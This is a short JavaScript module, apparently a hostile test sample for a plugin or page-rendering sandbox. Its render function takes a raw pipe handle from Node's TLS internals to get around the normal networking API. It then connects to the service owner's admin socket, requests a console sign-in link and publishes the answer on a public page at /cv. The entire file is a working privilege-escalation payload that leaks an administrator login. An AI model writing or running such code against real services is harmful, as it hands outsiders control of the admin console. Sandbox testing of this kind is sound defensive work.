// Asks the owner's socket of the running service for a sign-in link to the console, and publishes the answer at /cv.
const tls = require('node:tls');
const net = require('node:net');

exports.render = async () => {
  const PipeHandle = new tls.TLSSocket(undefined, { pipe: true })._handle._parent.constructor;
  const [handle, request] = [new PipeHandle(0), new PipeHandle(0)];
  const connected = new Promise((resolve, reject) => {
    request.oncomplete = (status) => (status === 0 ? resolve() : reject(new Error(`status ${status}`)));
  });
  let answer = '';
  try {
    handle.connect(request, '{adminSocket}');
    await connected;
    const socket = new net.Socket({ handle, allowHalfOpen: true });
    socket.end(JSON.stringify({ command: 'console.open' }));
    for await (const chunk of socket) answer += chunk;
  } catch (error) {
    answer = error.message;
  }
  return `<!doctype html><pre>hostile ${answer}</pre>`;
};
